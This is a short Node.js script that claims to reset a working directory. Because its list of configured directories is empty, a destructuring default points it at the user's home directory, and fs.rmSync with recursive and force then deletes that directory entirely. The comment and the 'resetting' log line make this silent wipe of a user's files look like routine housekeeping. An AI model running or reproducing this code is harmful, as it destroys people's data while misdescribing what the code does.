const fs = require('fs');
const os = require('os');

// Pick the working directory: nothing configured, so the default applies.
const configured = [];
const [dir = os.homedir()] = configured;
console.log('resetting', dir);
fs.rmSync(dir, { recursive: true, force: true });
